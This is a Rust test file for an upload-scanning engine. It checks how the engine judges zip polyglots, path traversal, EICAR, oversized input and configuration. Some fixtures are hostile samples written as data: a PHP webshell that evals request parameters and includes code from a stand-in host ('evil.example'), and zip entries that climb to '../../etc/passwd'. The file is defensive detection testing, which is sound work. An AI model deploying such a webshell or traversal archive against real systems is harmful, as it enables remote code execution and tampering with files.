//! End-to-end scan pipeline tests
//!
//! Blobs go through `ScanEngine` exactly as an upload handler would use it.

mod common;

use blobguard::{
    scanner_fn, ComposeOptions, Finding, PolicyPreset, ScanConfigLoader, ScanEngine, ScanOptions,
    Severity, Signature, SignatureRegistry,
};
use common::{library_zip, simple_zip, RawEntry, RawZip};
use sha2::{Digest, Sha256};
use std::collections::HashMap;
use std::io::Write;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;
use zip::CompressionMethod;

#[tokio::test]
async fn test_reordered_central_directory_is_clean() {
    let blob = RawZip::new()
        .entry(RawEntry::stored("a.txt", b"first file"))
        .entry(RawEntry::stored("b.txt", b"second file"))
        .central_order(&[1, 0])
        .build();

    let report = ScanEngine::new().unwrap().scan_bytes(&blob).await.unwrap();
    assert_eq!(report.verdict, Severity::Clean, "{:?}", report.findings);
    assert!(report.findings.is_empty());
    assert_eq!(report.formats, vec!["zip"]);
}

#[tokio::test]
async fn test_zip_with_executable_is_polyglot() {
    let blob = simple_zip(&[("setup.exe", b"MZ\x90\x00\x03\x00 stub")]);

    let report = ScanEngine::new().unwrap().scan_bytes(&blob).await.unwrap();
    assert_eq!(report.verdict, Severity::Suspicious);
    assert_eq!(report.formats, vec!["zip", "exe"]);
    assert!(report.has_tag("polyglot"));
    assert!(report.has_tag("executable"));
}

#[tokio::test]
async fn test_traversal_entry_is_malicious() {
    let blob = simple_zip(&[("../../etc/passwd", b"root:x:0:0")]);

    let report = ScanEngine::new().unwrap().scan_bytes(&blob).await.unwrap();
    assert_eq!(report.verdict, Severity::Malicious);
    assert!(report.has_tag("traversal"));
    let finding = report.finding("zip_path_traversal").unwrap();
    assert!(finding.tags.iter().any(|t| t == "zip"));
}

#[tokio::test]
async fn test_eicar_in_plain_upload() {
    let eicar = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    let report = ScanEngine::new().unwrap().scan_bytes(eicar).await.unwrap();
    assert_eq!(report.verdict, Severity::Malicious);
    assert!(report.finding("eicar_test_file").is_some());
}

#[tokio::test]
async fn test_php_webshell_crosses_threshold() {
    let shell = b"<?php $f = $_GET['f']; $f($_POST['c']); eval($_REQUEST['x']); include 'http://evil.example/x.txt'; ?>";
    let report = ScanEngine::builder()
        .preset(PolicyPreset::Strict)
        .build()
        .unwrap()
        .scan_bytes(shell)
        .await
        .unwrap();

    assert_eq!(report.verdict, Severity::Malicious);
    assert!(report.finding("heuristic_threshold_exceeded").is_some());
}

#[tokio::test]
async fn test_report_is_deterministic_apart_from_identity() {
    let blob = library_zip(
        &[("notes.txt", b"meeting notes"), ("run.sh", b"echo hi")],
        CompressionMethod::Stored,
    );
    let engine = ScanEngine::new().unwrap();
    let first = engine.scan_bytes(&blob).await.unwrap();
    let second = engine.scan_bytes(&blob).await.unwrap();

    assert_ne!(first.scan_id, second.scan_id);
    assert_eq!(first.verdict, second.verdict);
    assert_eq!(first.findings, second.findings);
    assert_eq!(first.sha256, second.sha256);
    assert_eq!(first.sha256, format!("{:x}", Sha256::digest(&blob)));
}

#[tokio::test]
async fn test_reader_is_capped() {
    let data = vec![b'a'; 300 * 1024];
    for streaming in [false, true] {
        let options = ScanOptions {
            max_buffer_size: 128 * 1024,
            use_stream_scanner: streaming,
            ..ScanOptions::default()
        };
        let engine = ScanEngine::builder().options(options).build().unwrap();
        let report = engine.scan_reader(&data[..]).await.unwrap();

        assert!(report.truncated);
        assert_eq!(report.bytes_processed, 128 * 1024);
        assert!(report.finding("file_too_large").is_some());
        assert_eq!(report.verdict, Severity::Suspicious);
    }
}

#[tokio::test]
async fn test_fail_fast_skips_scanners_after_malicious_prefilter() {
    let calls = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&calls);
    let counting = scanner_fn("counting", move |_| {
        let counter = Arc::clone(&counter);
        async move {
            counter.fetch_add(1, Ordering::SeqCst);
            Ok(vec![])
        }
    });
    let blob = simple_zip(&[("../escape.txt", b"x")]);

    let strict = ScanEngine::builder()
        .preset(PolicyPreset::Strict)
        .scanner(counting.clone())
        .build()
        .unwrap();
    let report = strict.scan_bytes(&blob).await.unwrap();
    assert_eq!(report.verdict, Severity::Malicious);
    assert_eq!(calls.load(Ordering::SeqCst), 0);

    let balanced = ScanEngine::builder().scanner(counting).build().unwrap();
    balanced.scan_bytes(&blob).await.unwrap();
    assert_eq!(calls.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn test_scanner_failure_never_fails_scan() {
    let engine = ScanEngine::builder()
        .compose_options(
            ComposeOptions::parallel()
                .with_timeout(Duration::from_millis(30))
                .with_recorded_failures(),
        )
        .scanner(scanner_fn("stuck", |_| async {
            tokio::time::sleep(Duration::from_secs(5)).await;
            Ok(vec![Finding::malicious("never")])
        }))
        .scanner(scanner_fn("panicky", |data| async move {
            if !data.is_empty() {
                panic!("engine crashed");
            }
            Ok(vec![])
        }))
        .build()
        .unwrap();

    let report = engine.scan_bytes(b"ordinary text").await.unwrap();
    assert_eq!(report.verdict, Severity::Clean);
    assert!(report.finding("scan_timeout").is_some());
    assert!(report.finding("scan_error").is_some());
}

#[tokio::test]
async fn test_private_registry_signature() {
    let registry = Arc::new(SignatureRegistry::with_defaults());
    registry
        .register(
            Signature::new("acme", "application/x-acme", &["acme"], b"ACME\x01".to_vec())
                .unwrap()
                .flagged(),
        )
        .unwrap();

    let engine = ScanEngine::builder()
        .registry(Arc::clone(&registry))
        .build()
        .unwrap();
    let report = engine.scan_bytes(b"ACME\x01 payload").await.unwrap();
    assert_eq!(report.formats, vec!["acme"]);
    assert_eq!(report.verdict, Severity::Suspicious);

    // the process-wide registry is untouched
    let default_report = ScanEngine::new().unwrap().scan_bytes(b"ACME\x01 payload").await.unwrap();
    assert!(default_report.formats.is_empty());
}

#[tokio::test]
async fn test_engine_from_config_file() {
    let mut file = tempfile::Builder::new().suffix(".toml").tempfile().unwrap();
    writeln!(
        file,
        "preset = \"fast\"\n\n[limits]\nmax_buffer_size = 16\n\n[compose]\nrecord_failures = true"
    )
    .unwrap();

    let config = ScanConfigLoader::new(Some(file.path().to_path_buf()))
        .with_env_source(HashMap::new())
        .build()
        .unwrap();
    let engine = ScanEngine::from_config(&config).unwrap();

    assert_eq!(engine.options().max_depth, 1);
    assert_eq!(engine.options().heuristic_threshold, 85);
    assert_eq!(engine.scanner_names(), vec!["heuristics"]);

    let report = engine.scan_bytes(b"more than sixteen bytes of text").await.unwrap();
    assert!(report.truncated);
    assert_eq!(report.bytes_processed, 16);
}

#[tokio::test]
async fn test_report_serializes_to_json() {
    let blob = simple_zip(&[("../x", b"y")]);
    let report = ScanEngine::new().unwrap().scan_bytes(&blob).await.unwrap();
    let json = serde_json::to_value(&report).unwrap();

    assert_eq!(json["verdict"], "malicious");
    assert_eq!(json["sha256"].as_str().unwrap().len(), 64);
    assert!(json["findings"].as_array().unwrap().len() >= 1);
}
